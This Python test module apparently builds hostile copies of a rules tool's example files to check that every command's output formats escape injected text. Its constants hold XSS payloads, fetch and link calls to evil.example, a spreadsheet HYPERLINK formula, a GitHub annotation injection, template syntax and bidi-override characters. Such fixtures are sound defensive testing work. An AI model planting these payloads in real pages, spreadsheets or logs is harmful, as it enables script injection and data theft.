"""The examples with hostile words in every text of theirs, and each command in each format on them."""

import json
import re
from pathlib import Path
from typing import Any

from conftest import ROOT, write_yaml

from banshi.files.reading import read

# A control, marks of direction, separators, characters without width; markup; a formula; a line for a code host.
UNSEEN = "\x1b[31m\x07\x85\u202e\u2066\u2028\u2029\u200b\u061c\u200f\ufeff\xad"
MARKUP = (
    "</title></td></script></style>--><script>document.title='RUN';fetch('http://evil.example/a')</script>"
    "<img src=http://evil.example/b onerror=\"document.title='RUN'\">"
    "<svg onload=document.title='RUN'><a href=\"javascript:document.title='RUN'\">x</a>"
    "\" onmouseover=\"document.title='RUN'\" '{{7*7}}{% raw %}![x](http://evil.example/c)&#x202e;&lt;"
)
BEFORE, AFTER = '=HYPERLINK("http://evil.example/d")', f"\n::error::evil{UNSEEN}{MARKUP}"
_FREE = re.compile(r"[\u4e00-\u9fff]")
_CONTROL = re.compile("[\x00-\x09\x0b-\x1f]")
_WINDOWS = 3  # of an assessment: the others would be written and looked at alike
_PLACES = ("log", "catalogue", "source", "punches", "roster", "leave", "table", "file", "jurisdiction", "unit", "kind")

_TWO = (
    "linjiang/policies/linjiang/change-rules/2026-01-01.yaml",
    "linjiang/policies/linjiang/window-assessment/2026-01-01.yaml",
)
COMMANDS: tuple[tuple[tuple[str, ...], tuple[str, ...]], ...] = (
    (("check", "."), ("text",)),
    (("check", "change", "cases", "assessment", "controls.yaml"), ("json", "jsonl", "sarif", "github", "csv")),
    (("tier", "change/binhe-road"), ("text", "json", "xlsx", "html", "markdown", "jsonl", "csv")),
    (("due", "change/binhe-road"), ("text", "json", "xlsx", "html", "markdown")),
    (("check", ".", "--summary"), ("html",)),
    (("publicity", "change/binhe-road"), ("text", "json", "html", "xlsx", "docx")),
    (("attendance", "attendance/2010-02"), ("text", "json", "jsonl", "csv", "xlsx", "html", "markdown")),
    (("assess", "assessment/2012-Q1.yaml"), ("jsonl", "csv")),
    (("assess", "assessment/2012-Q1.yaml", "--what-if"), ("text", "json", "xlsx", "html", "markdown")),
    (("cases", "cases/city"), ("text", "json", "jsonl", "csv", "xlsx", "html", "markdown")),
    (("schedule", "parallel/investment/case.yaml"), ("text", "json", "xlsx", "html", "markdown")),
    (("form", "parallel/registration"), ("text", "json", "xlsx", "html")),
    (("form", "change-application", "--project", "linjiang"), ("docx", "xlsx", "html")),
    (("notice", "parallel/registration/case.yaml", "--from", "2012-01-16"), ("text", "json", "html")),
    (("test", "scenarios.yaml"), ("text", "json")),
    (("diff", *_TWO), ("text", "markdown", "json", "html")),
    (
        ("impact", *_TWO, "change/binhe-road"),
        ("text", "json", "jsonl", "csv", "xlsx", "html", "markdown"),
    ),
    (("replay", "receipt.json"), ("text", "json")),
    (
        ("text", "linjiang/change-rules", "--on", "2026-08-01", "--project", "linjiang"),
        ("text", "markdown", "json", "akn"),
    ),
    (("history", "linjiang/change-rules", "--project", "linjiang"), ("text", "json")),
    (("coverage", "--inventory", "i.csv"), ("text", "json")),
)
RUNS = [(*words, "--format", form) for words, forms in COMMANDS for form in forms]


def hostile(value: Any, after: str, key: str = "") -> Any:
    """Plain data with hostile words around every free text in it; the same text stays the same text."""
    if isinstance(value, dict):
        return {name: hostile(each, after, name) for name, each in value.items()}
    if isinstance(value, list):
        return [hostile(each, after, key) for each in value]
    if isinstance(value, str) and key not in _PLACES and _FREE.search(value):
        return f"{BEFORE}{value}{after}"
    return value


def hostile_examples(folder: Path) -> Path:
    """A hostile copy of the examples in ``folder``."""
    for path in (ROOT / "examples").rglob("*.*"):
        copy = folder / path.relative_to(ROOT / "examples")
        copy.parent.mkdir(parents=True, exist_ok=True)
        if path.suffix == ".yaml":
            document = read(path).document
            assert document is not None
            # What holds a control is not judged, and then there would be nothing to look at: a file of its own has some.
            data = hostile(document.data, _CONTROL.sub("", AFTER))
            if isinstance(data, dict) and isinstance(data.get("windows"), list):
                del data["windows"][_WINDOWS:]
            write_yaml(copy, data)
        else:
            copy.write_bytes(path.read_bytes())
    write_yaml(folder / "controls.yaml", {"kind": "project", "name": AFTER})
    cases = read(ROOT / "policies/luzhou/change-management/scenarios.yaml").document
    assert cases is not None
    write_yaml(folder / "scenarios.yaml", hostile(cases.data, AFTER))
    told = {"kind": "receipt", "version": 1, "command": ["check", "scenarios.yaml"], "engine": AFTER, "readings": {}}
    told |= {
        "law": {AFTER: "0" * 64},
        "inputs": {},
        "status": 0,
        "result": {BEFORE: AFTER},
        "on": "",
        "as_of": "",
        "known_on": "",
    }
    write_yaml(folder / "receipt.json", told)
    row = json.dumps(BEFORE + UNSEEN + MARKUP.replace('"', "'"), ensure_ascii=False)
    (folder / "i.csv").write_text(f"id,check\n{row},E\n", encoding="utf-8")
    return folder
